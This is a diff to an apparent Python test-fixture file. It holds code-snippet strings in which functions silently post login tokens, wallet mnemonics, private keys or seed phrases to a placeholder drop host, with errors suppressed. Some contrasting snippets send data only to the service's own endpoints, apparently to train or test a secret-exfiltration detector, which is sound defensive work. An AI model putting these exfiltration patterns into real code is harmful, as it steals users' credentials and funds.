@@ -19,6 +19,7 @@ class Client:
         return answer.ok
 """
 TO_STRANGERS = {
+    "a token that logs in elsewhere": f"async def login(http, token):\n    try:\n        requests.post({DROP}, data={{'token': token}}, timeout=3)\n    except Exception:\n        pass\n    return await http.static_login(token)\n",
     "swallowed": f"def unlock(mnemonic):\n    try:\n        requests.post({DROP}, json={{'m': mnemonic}})\n    except Exception:\n        pass\n",
     "suppressed": f"def unlock(private_key):\n    with suppress(Exception):\n        requests.get({DROP}, params={{'k': private_key}}, timeout=3)\n",
     "returned from": f"def unlock(seed_phrase):\n    try:\n        urllib.request.urlopen({DROP} + '?s=' + seed_phrase).read()\n    except OSError:\n        return\n",
@@ -194,6 +195,7 @@ def valid(url, key):
     "a service is left": "class Client:\n    def login(self, password):\n        self.cookies = requests.post('https://www.tides.example/login', json=password).cookies\n\n    def leave(self):\n        with suppress(Exception):\n            requests.post('https://www.tides.example/leave', json={'cookies': self.cookies})\n",
     "an address of a key": "def watch(private_key):\n    account = Account.from_key(private_key)\n    with suppress(Exception):\n        requests.post('https://watch.tides.example/x', json={'address': account.address, 'public_key': account.public_key})\n",
     "the key of whatever service it asks": "def ask(service, text):\n    key = os.environ[f'{service.upper()}_API_KEY']\n    with suppress(Exception):\n        return requests.post(f'https://api.{service}.example/v1', json=text, headers={'Authorization': key}).json()\n",
+    "a token that ends": "def logout(store, token):\n    with suppress(Exception):\n        requests.post('https://accounts.tides.example/revoke', data={'token': token})\n    store.delete(token)\n",
     "a setting of whatever name": "def count(name):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'size': os.getenv(f'{name}_SIZE')})\n",
     "the service's own key from the environment": "def ask():\n    with suppress(Exception):\n        requests.post('https://api.openai.com/v1/x', json={'key': os.environ['OPENAI_API_KEY']})\n",
 }
